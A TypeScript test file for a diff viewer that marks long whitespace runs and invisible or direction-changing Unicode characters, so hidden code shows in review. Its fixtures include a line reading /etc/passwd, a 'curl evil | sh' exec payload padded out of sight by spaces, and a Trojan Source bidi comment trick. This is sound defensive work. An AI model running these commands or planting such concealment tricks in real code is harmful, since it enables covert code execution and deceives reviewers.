import { test } from 'node:test';
import assert from 'node:assert/strict';
import { INVISIBLE_SOURCE, codePointLabel, hiddenSummary, invisibleName, lineDiff, segments } from './line-diff.ts';

const show = (before: string, after: string) =>
  lineDiff(before, after)
    .map((l) => l.op + l.text)
    .join('|');

test('unchanged text: every line kept', () => {
  assert.equal(show('a\nb', 'a\nb'), ' a| b');
});

test('a changed line: removed, then added, between kept lines', () => {
  assert.equal(show('a\nb\nc', 'a\nB\nc'), ' a|-b|+B| c');
});

test('lines added at the end and removed at the start', () => {
  assert.equal(show('x\na\nb', 'a\nb\nrequire("fs").readFileSync("/etc/passwd")'), '-x| a| b|+require("fs").readFileSync("/etc/passwd")');
});

test('the whole file replaced', () => {
  assert.equal(show('a\nb', 'c'), '-a|-b|+c');
});

test('applying the diff gives back both texts', () => {
  const before = 'one\ntwo\nthree\nfour\nfive';
  const after = 'zero\none\nthree\n3.5\nfive\nsix';
  const lines = lineDiff(before, after);
  const side = (skip: string) =>
    lines
      .filter((l) => l.op !== skip)
      .map((l) => l.text)
      .join('\n');
  assert.equal(side('+'), before);
  assert.equal(side('-'), after);
});

test('huge files fall back to all removed, all added', () => {
  const big = Array.from({ length: 3000 }, (_, i) => `line ${i}`).join('\n');
  const lines = lineDiff(big, `${big}\nextra`);
  assert.equal(lines.length, 6001);
});

const shown = (line: string) =>
  segments(line)
    .map((s) => ('mark' in s ? `[${s.mark}]` : s.text))
    .join('');

test('a payload after 300 spaces is marked, not pushed out of sight', () => {
  const line = `const a = 1;${' '.repeat(300)}require('child_process').exec('curl evil | sh')`;
  assert.equal(shown(line), "const a = 1;[⟨300 spaces⟩]require('child_process').exec('curl evil | sh')");
  // Deep indentation too; ordinary indentation and alignment are left alone.
  assert.equal(shown(`${' '.repeat(300)}evil()`), '[⟨300 spaces⟩]evil()');
  assert.equal(shown('        return x;  // eight spaces in'), '        return x;  // eight spaces in');
  assert.equal(shown('\tif (a) {\t// tabs'), '\tif (a) {\t// tabs');
  assert.equal(shown(`x${' \t'.repeat(10)}`), 'x[⟨20 spaces and tabs⟩]');
});

test('bidi controls and invisible characters are marked, each with its name', () => {
  // The "Trojan Source" comment trick: shown reordered, runs as written.
  const trojan = 'if (isAdmin) { /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */';
  assert.equal(shown(trojan), 'if (isAdmin) { /*[⟨U+202E⟩] } [⟨U+2066⟩]if (isAdmin)[⟨U+2069⟩] [⟨U+2066⟩] begin admins only */');
  const marks = segments('a\u200Bb\uFEFFc\u061Cd\u200Ee\u2060f\u3164g\u{E0041}h').filter((s) => 'mark' in s);
  assert.deepEqual(
    marks.map((s) => ('mark' in s ? s.mark : '')),
    ['⟨U+200B⟩', '⟨U+FEFF⟩', '⟨U+061C⟩', '⟨U+200E⟩', '⟨U+2060⟩', '⟨U+3164⟩', '⟨U+E0041⟩'],
  );
  assert.equal(invisibleName(0x202e), 'U+202E right-to-left override: changes the order text is shown in');
  assert.equal(invisibleName(0x200b), 'U+200B zero width space: shows as nothing');
  // Every bidi control of the issue, one by one.
  for (const code of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c, 0x200c, 0x200d, 0x0d, 0x1b, 0x2028])
    assert.ok(new RegExp(INVISIBLE_SOURCE, 'u').test(String.fromCodePoint(code)), codePointLabel(code));
});

test('marks keep the text: joining plain text and what each mark hides gives the line back', () => {
  const line = `a\u202Eb${' '.repeat(50)}c\u{E0100}`;
  assert.equal(
    segments(line)
      .map((s) => ('mark' in s ? s.hidden : s.text))
      .join(''),
    line,
  );
  assert.deepEqual(segments('plain code();'), [{ text: 'plain code();' }]);
});

test('the banner says what is marked, or nothing', () => {
  assert.equal(hiddenSummary(['plain', 'code']), null);
  assert.equal(
    hiddenSummary(['a\u202Eb\u2066', `x${' '.repeat(30)}y`]),
    'Marked below: 2 invisible or direction-changing characters and 1 long run of spaces. Code can look different from what runs; read the marks.',
  );
});
